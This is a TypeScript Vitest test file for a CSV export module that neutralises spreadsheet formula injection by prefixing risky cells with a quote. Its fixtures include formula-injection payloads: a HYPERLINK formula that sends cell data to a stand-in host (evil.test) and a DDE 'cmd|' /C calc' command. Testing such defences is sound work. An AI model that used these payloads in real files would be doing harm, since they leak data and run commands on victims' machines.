import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { errorReportCsv, neutraliseCell, toCsv, unneutraliseCell } from "../../src/connectors/drop/csv";
import { parseRow } from "../../src/connectors/drop/rows";

/** Reads a CSV back with papaparse (RFC 4180), as the importer does. */
const readBack = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

describe("neutraliseCell", () => {
  it("prefixes ' to cells a spreadsheet would run as a formula", () => {
    expect(neutraliseCell('=HYPERLINK("http://evil.test/?x="&A1,"Click")')).toBe(`'=HYPERLINK("http://evil.test/?x="&A1,"Click")`);
    expect(neutraliseCell("=1+1")).toBe("'=1+1");
    expect(neutraliseCell("+1")).toBe("'+1");
    expect(neutraliseCell("+1 555 0100")).toBe("'+1 555 0100");
    expect(neutraliseCell("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(neutraliseCell("-2+3")).toBe("'-2+3");
    expect(neutraliseCell("-1+cmd|' /C calc'!A0")).toBe("'-1+cmd|' /C calc'!A0");
    expect(neutraliseCell("-")).toBe("'-");
    expect(neutraliseCell("--5")).toBe("'--5");
  });

  it("also after leading whitespace, and any cell starting with a tab or CR", () => {
    expect(neutraliseCell("  =1+1")).toBe("'  =1+1");
    expect(neutraliseCell("\n@SUM(A1)")).toBe("'\n@SUM(A1)");
    expect(neutraliseCell("\tx")).toBe("'\tx");
    expect(neutraliseCell("\t=1")).toBe("'\t=1");
    expect(neutraliseCell("\rx")).toBe("'\rx");
  });

  it("keeps plain negative numbers and ordinary text", () => {
    for (const value of ["-5", "-12.50", "0", "12.5", "ACME-001", "a=b", "jane@doe.test", "", " ", "Electronics > Phones", "'quoted'"]) {
      expect(neutraliseCell(value), JSON.stringify(value)).toBe(value);
    }
  });

  it("is undone by unneutraliseCell, which leaves other leading quotes alone", () => {
    for (const value of ["=1+1", "+1", "@SUM(A1)", "-2+3", "\tx", "  =x", "-5", "plain", "'quoted'", "'"]) {
      expect(unneutraliseCell(neutraliseCell(value)), JSON.stringify(value)).toBe(value);
    }
    expect(unneutraliseCell("'abc")).toBe("'abc");
    expect(unneutraliseCell("'-5")).toBe("'-5");
  });
});

describe("toCsv", () => {
  it("writes a header and rows with CRLF line ends", () => {
    expect(
      toCsv(
        ["SKU_ID", "Available"],
        [
          { SKU_ID: "A", Available: 3 },
          { SKU_ID: "B", Available: 0 },
        ],
      ),
    ).toBe("SKU_ID,Available\r\nA,3\r\nB,0\r\n");
    expect(toCsv(["a"], [])).toBe("a\r\n");
  });

  it("quotes fields with commas, quotes, CR or LF (RFC 4180)", () => {
    const csv = toCsv(["a", "b", "c", "d"], [{ a: "x,y", b: 'say "hi"', c: "line1\r\nline2", d: "lf\nonly" }]);
    expect(csv).toBe('a,b,c,d\r\n"x,y","say ""hi""","line1\r\nline2","lf\nonly"\r\n');
    expect(readBack(csv)).toEqual([
      ["a", "b", "c", "d"],
      ["x,y", 'say "hi"', "line1\r\nline2", "lf\nonly"],
    ]);
  });

  it("writes values: empty for null or missing, Y/N, | between list items, numbers as numbers", () => {
    const csv = toCsv(
      ["s", "n", "neg", "b", "l", "none", "missing", "d", "o"],
      [{ s: "text", n: 12.5, neg: -5, b: false, l: ["A", "B"], none: null, d: new Date("2024-09-18T00:00:00Z"), o: { k: 1 } }],
    );
    expect(readBack(csv)[1]).toEqual(["text", "12.5", "-5", "N", "A|B", "", "", "2024-09-18T00:00:00.000Z", '{"k":1}']);
  });

  it("neutralises every cell, header included", () => {
    const csv = toCsv(
      ["=Name", "Phone"],
      [
        { "=Name": '=HYPERLINK("http://x","y")', Phone: "+1 555" },
        { "=Name": "@SUM(1)", Phone: "\t-2+3" },
      ],
    );
    expect(readBack(csv)).toEqual([
      ["'=Name", "Phone"],
      [`'=HYPERLINK("http://x","y")`, "'+1 555"],
      ["'@SUM(1)", "'\t-2+3"],
    ]);
  });

  it("can start with a UTF-8 byte order mark for Excel", () => {
    expect(toCsv(["a"], [{ a: "é" }], { bom: true })).toBe("\uFEFFa\r\né\r\n");
  });
});

describe("errorReportCsv", () => {
  it("keeps the original columns and adds an Error column, one error per line", () => {
    const csv = errorReportCsv(
      ["SKU_ID", "Available"],
      [
        { cells: { SKU_ID: "A", Available: "ten" }, errors: ['row 2, Available: "ten" is not a whole number; write a number such as 10'] },
        { cells: { SKU_ID: "=cmd()", Available: "" }, errors: ["row 3, SKU_ID: first", "row 3, Available: second"] },
      ],
    );
    expect(readBack(csv)).toEqual([
      ["SKU_ID", "Available", "Error"],
      ["A", "ten", 'row 2, Available: "ten" is not a whole number; write a number such as 10'],
      ["'=cmd()", "", "row 3, SKU_ID: first\nrow 3, Available: second"],
    ]);
  });

  it("replaces the Error column of a report that was uploaded again", () => {
    const csv = errorReportCsv(["SKU_ID", "error", "Available"], [{ cells: { SKU_ID: "A", error: "old", Available: "x" }, errors: ["new"] }]);
    expect(readBack(csv)).toEqual([
      ["SKU_ID", "Available", "Error"],
      ["A", "x", "new"],
    ]);
  });

  it("round-trips: a corrected report parses back to the merchant's values", () => {
    const csv = errorReportCsv(["Reference_ID", "Name"], [{ cells: { Reference_ID: "-C1+", Name: "=Summer" }, errors: ["e"] }]);
    const [header, row] = readBack(csv);
    const cells = Object.fromEntries(header.map((h, i) => [h, row[i]]));
    expect(parseRow("COLLECTION", cells, 2)).toEqual({ ok: true, value: { Reference_ID: "-C1+", Name: "=Summer" } });
  });
});
